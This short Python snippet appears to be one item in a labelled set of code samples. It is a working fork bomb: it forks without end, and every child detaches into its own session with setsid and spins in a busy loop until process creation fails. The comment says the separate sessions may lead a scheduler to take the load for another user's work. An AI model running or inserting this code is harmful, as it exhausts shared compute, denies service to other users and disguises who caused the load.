# The same, each in a session of its own, which a scheduler may take for another user's work.
# set: 06_perplexity
# others: model
# credit: all
# %%
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
